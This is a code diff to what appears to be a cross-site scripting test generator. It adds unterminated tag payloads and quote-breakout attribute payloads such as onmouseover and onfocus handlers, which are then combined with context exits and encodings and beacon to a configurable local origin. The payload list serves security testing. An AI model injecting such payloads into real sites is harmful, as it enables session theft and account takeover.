@@ -52,7 +52,9 @@ _ELEMENTS = (
     "<img src=x onerror=RUN>",
     "<img/src=x/onerror=RUN>",
     "<IMG SRC=x ONERROR\n=\n'RUN'>",
+    "<img src=x onerror=RUN x=",
     "<svg onload=RUN>",
+    "<svg onload=RUN//",
     "<svg><script>RUN</script></svg>",
     "<svg><animate onbegin=RUN attributeName=x dur=1s>",
     "<svg><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>",
@@ -106,6 +108,13 @@ _BARE = (
     "\\3c/style>",
 )
 
+# What is at home in an attribute, behind each quote that may end it.
+_ATTRIBUTES = tuple(
+    f"{quote} {attribute}"
+    for quote in ('"', "'", '\\"', "\\'", "")
+    for attribute in ("onmouseover=RUN x=", "autofocus onfocus=RUN x=")
+)
+
 # How it may be written; what a context or a proxy might decode on the way.
 _ENCODINGS = (
     lambda text: text,
@@ -131,8 +140,9 @@ def hostile_strings(home):
     Args:
         home: The origin that beacons are sent to, such as `http://127.0.0.1:8000`.
     """
-    plain = [f"{way}{core}" for core, way in zip(_ELEMENTS, _cycle(_EXITS), strict=False)]
-    certain = [*_ELEMENTS, *_BARE, *plain]
+    plain = [f"{way}<img src=x onerror=RUN>" for way in _EXITS]
+    mixed = [f"{way}{core}" for core, way in zip(_ELEMENTS, _cycle(_EXITS), strict=False)]
+    certain = [*_ELEMENTS, *_BARE, *_ATTRIBUTES, *plain, *mixed]
     others = [
         encode(f"{way}{core}")
         for way, core, encode in product(_EXITS, (*_ELEMENTS, *_BARE), _ENCODINGS)
